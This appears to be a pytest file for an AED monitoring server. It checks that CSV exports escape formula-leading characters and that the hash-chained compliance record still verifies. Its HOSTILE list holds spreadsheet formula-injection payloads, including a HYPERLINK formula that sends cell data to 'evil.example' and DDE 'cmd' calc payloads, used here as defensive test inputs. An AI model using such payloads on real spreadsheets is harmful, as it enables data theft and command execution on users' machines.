"""Exports are inert in a spreadsheet and the compliance record stays verifiable, on SQLite and
PostgreSQL: every text cell that could start a formula (`= + - @`, tab, CR, and `'` itself) is
escaped with a leading `'`, and the verifier (`from_csv`, `aedmon verify-record`) undoes
exactly that before hashing."""

from __future__ import annotations

import csv
import io
import subprocess
import sys
from collections.abc import Iterator
from datetime import UTC, date, datetime, timedelta
from pathlib import Path

import pytest
from fastapi.testclient import TestClient

from aedmon.clock import MovableClock
from aedmon.reading import TestResult
from server.app import create_app
from server.reports.compliance import ChainedEntry, Entry, from_csv, verify
from server.settings import ServerSettings

from .. import factories
from ..conftest import Tokens

T0 = datetime(2026, 11, 23, 6, 0, tzinfo=UTC)
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
    "plain name",
]
DANGER = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def api(database_url: str, tokens: Tokens) -> Iterator[TestClient]:
    settings = ServerSettings(database_url=database_url, tokens=tokens.setting)
    with TestClient(create_app(settings, MovableClock(T0 + timedelta(hours=1)), background=False)) as client:
        yield client


def auth(token: str) -> dict[str, str]:
    return {"Authorization": f"Bearer {token}"}


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_the_compliance_csv_is_inert_and_still_verifies(
    api: TestClient, tokens: Tokens, tmp_path: Path
) -> None:
    api.post("/api/v1/devices", json=factories.device("-SN1"), headers=auth(tokens.admin)).raise_for_status()
    reading = factories.selftest(TestResult.FAIL, device="-SN1", at=T0, codes=("C02",))
    api.post("/api/v1/ingest", json={"readings": [factories.as_json(reading)]},
             headers=auth(tokens.bridge)).raise_for_status()  # fmt: skip
    for minute, name in enumerate(HOSTILE):
        check = {"inspector": name.replace("\t", " ").replace("\r", " ") if minute > 5 else name,
                 "status_light_ok": True, "pads_sealed_in_date": True, "cabinet_intact": True,
                 "notes": name, "at": (T0 + timedelta(minutes=minute + 1)).isoformat()}  # fmt: skip
        made = api.post("/api/v1/devices/-SN1/inspections", json=check, headers=auth(tokens.technician))
        assert made.status_code in (201, 422), made.text  # a name with a tab or CR may be refused
    params = {"from": T0.date().isoformat(), "to": T0.date().isoformat(), "device_id": "-SN1"}
    rows = api.get("/api/v1/reports/compliance", params=params, headers=auth(tokens.viewer)).json()
    assert len(rows) >= 1 + 6
    text = api.get(
        "/api/v1/reports/compliance", params={**params, "format": "csv"}, headers=auth(tokens.viewer)
    ).text
    for row in cells(text):
        for cell in row:
            assert not cell.startswith(DANGER), cell
    assert any(cell.startswith("'=HYPERLINK") for row in cells(text) for cell in row)
    read_back = from_csv(text)
    as_hashed = [ChainedEntry(r["number"], Entry(**r["entry"]), r["previous"], r["hash"]) for r in rows]
    assert read_back == as_hashed  # the escaping undone exactly
    assert verify(read_back) is None
    exported = tmp_path / "record.csv"
    exported.write_text(text, encoding="utf-8")
    whole = subprocess.run([sys.executable, "-m", "aedmon", "verify-record", str(exported)],
                           capture_output=True, text=True, timeout=60)  # fmt: skip
    assert whole.returncode == 0, whole.stderr
    assert f"all {len(rows)} rows" in whole.stdout
    exported.write_text(text.replace("'=HYPERLINK", "'=HYPERLINQ", 1), encoding="utf-8")
    altered = subprocess.run([sys.executable, "-m", "aedmon", "verify-record", str(exported)],
                             capture_output=True, text=True, timeout=60)  # fmt: skip
    assert altered.returncode == 1
    assert "does not follow" in altered.stdout


def test_the_consumables_csv_is_inert(api: TestClient, tokens: Tokens) -> None:
    api.post("/api/v1/devices", json=factories.device("-SN2"), headers=auth(tokens.admin)).raise_for_status()
    reading = factories.selftest(TestResult.PASS, device="-SN2", at=T0, pads_expiry=date(2027, 1, 31))
    api.post("/api/v1/ingest", json={"readings": [factories.as_json(reading)]},
             headers=auth(tokens.bridge)).raise_for_status()  # fmt: skip
    text = api.get("/api/v1/reports/consumables", params={"format": "csv"}, headers=auth(tokens.viewer)).text
    table = cells(text)
    assert any("'-SN2" in cell for row in table for cell in row)
    for row in table:
        for cell in row:
            assert not cell.startswith(DANGER), cell
